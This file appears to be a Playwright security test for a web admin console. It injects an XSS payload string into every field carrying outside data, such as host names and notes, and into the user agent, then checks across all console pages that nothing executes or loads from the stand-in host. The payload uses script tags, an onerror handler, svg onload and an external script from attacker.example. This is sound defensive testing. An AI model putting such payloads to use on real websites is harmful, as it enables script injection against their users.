"""What strangers wrote, in real Chromium: host names, SNI, user agents, names of lists, notes, answers.

Every text that control tells is one that would run as a script, load from elsewhere or end its element, where
a page of the console did not escape it. The console is served over TLS as it is; only control is a fake.
"""

from __future__ import annotations

import threading
from collections.abc import Iterator
from typing import Any

import pytest
from playwright.sync_api import Browser, Page
from werkzeug.serving import make_server

from tests.browser.looks import MARKS
from tests.unit.webui.fake import FakeControl
from webui.app import create_app

pytestmark = MARKS

ELSEWHERE = "attacker.example"
EVIL = (
    f"'\"><img src=https://{ELSEWHERE}/i onerror=window.owned=1><script>window.owned=2</script>"
    f"<script src=https://{ELSEWHERE}/s></script><svg onload=window.owned=3></title></textarea>"
    "<form action=//x>{{ 7 * 7 }}"
)
# Words of control's own, by which pages choose what they show: a stranger has no say in them.
OWN = frozenset(
    {"kind", "state", "role", "protocol", "action", "phase", "result", "mark", "path", "mode", "id", "color"}
)
# Settings that take nearly any word; that the schema refuses these is not what is looked at here.
FREE = frozenset(
    {"name", "note", "source", "domains", "urls", "devices", "lists", "groups", "schedules", "users", "hosts"}
)
# What is asked of control, and told by it in strangers' words.
TOLD = (
    "status", "sessions", "sessions_page", "search_history", "top_history", "access_requests", "audit",
    "verify_audit", "revisions", "revision", "certificates", "update", "users", "ping", "trace", "look_up",
    "capture", "explain", "candidate_text", "tokens", "cross", "hits", "pending",
)  # fmt: skip
PASSWORD = "correct horse"
PAGES = (
    "/", "/sessions", f"/sessions?q={ELSEWHERE}", "/log", "/log?text=x", "/policy", "/policy/lists",
    "/policy/requests",
    "/policy?to=a.example&client=fd00:1::2", "/users", "/users/groups", "/users/devices", "/network",
    "/network/translation", "/network/published", "/network/listeners", "/system", "/system/certificates",
    "/system/admins", "/system/tokens", "/system/audit?verify=1", "/system/updates", "/system/diagnostics",
    "/changes",
    "/changes/file", "/history", "/history/1", "/history/1/file", "/account", "/setup/network", "/setup/test",
)  # fmt: skip


def poisoned(value: Any, key: str = "") -> Any:
    """The same with strangers' words wherever there are any."""
    if isinstance(value, dict):
        return {name: poisoned(one, name) for name, one in value.items()}
    if isinstance(value, list | tuple):
        return type(value)(poisoned(one, key) for one in value)
    return EVIL if isinstance(value, str) and key not in OWN else value


def renamed(value: Any, key: str = "") -> Any:
    """A configuration with such words in each setting that takes any."""
    if isinstance(value, dict):
        return {name: renamed(one, name) for name, one in value.items()}
    if isinstance(value, list):
        return [renamed(one, key) for one in value]
    return EVIL if isinstance(value, str) and key in FREE else value


class Poisoned(FakeControl):
    """Control in a network of strangers."""

    def __getattribute__(self, name: str) -> Any:
        found = super().__getattribute__(name)
        if name not in TOLD:
            return found

        def told(*asked: Any, **named: Any) -> Any:
            return poisoned(found(*asked, **named))

        return told

    def candidate(self, author: str) -> dict[str, Any]:
        """With a pending change, and words in every text of the configuration."""
        found = super().candidate(author)
        found["config"] = renamed(found["config"])
        for name in ("changes", "problems", "effects", "conflicts"):
            found[name] = poisoned(found[name])
        found["problems"] = [{"path": "rule", "message": EVIL, "hint": EVIL, "code": "x"}]
        found["changes"] = [{"path": f"rule.{EVIL}", "kind": "add", "before": EVIL, "after": EVIL}]
        found["effects"] = [{"text": EVIL, "cut": True}]
        return found


@pytest.fixture(scope="module")
def poisonous() -> Iterator[str]:
    """Where that console is."""
    control = Poisoned()
    server = make_server("127.0.0.1", 0, create_app(control, b"k" * 32), threaded=True, ssl_context="adhoc")
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    yield f"https://127.0.0.1:{server.port}"
    server.shutdown()
    thread.join()
    server.server_close()


class Watch:
    """What a page must not do."""

    def __init__(self, page: Page) -> None:
        self.asked: list[str] = []
        self.said: list[str] = []
        page.on("request", lambda request: self.asked.append(request.url))
        page.on("dialog", lambda dialog: self.said.append(dialog.message))
        page.on("console", lambda message: self.said.append(message.text))

    def check(self, page: Page, url: str) -> None:
        """Nothing ran, nothing was asked for elsewhere, nothing had to be stopped by the policy."""
        assert page.evaluate("window.owned") is None, url
        assert not [one for one in self.asked if ELSEWHERE in one.split("?")[0]], url
        assert not [one for one in self.said if "Content Security Policy" in one], (url, self.said)
        assert page.locator(f"[src*='{ELSEWHERE}'], svg[onload], form[action='//x']").count() == 0, url


def test_no_foreign_word_runs_on_any_page(browser: Browser, poisonous: str) -> None:
    context = browser.new_context(ignore_https_errors=True, base_url=poisonous, user_agent=EVIL)
    page = context.new_page()
    watch = Watch(page)
    page.goto("/")
    if page.get_by_label("The same again").is_visible():
        page.get_by_label("Password of").fill(PASSWORD)
        page.get_by_label("The same again").fill(PASSWORD)
        page.get_by_role("button", name="Set the password").click()
    else:
        page.get_by_label("Password", exact=True).fill(PASSWORD)
        page.get_by_role("button", name="Sign in").click()
    seen = 0
    for url in PAGES:
        answer = page.goto(url)
        assert answer is not None and answer.status == 200, url
        if url == "/":
            page.wait_for_timeout(4_500)  # two polls, whose regions are set as HTML
        watch.check(page, url)
        seen += page.content().count("&lt;img")
    assert seen > 100  # the words are there, as words
    context.close()
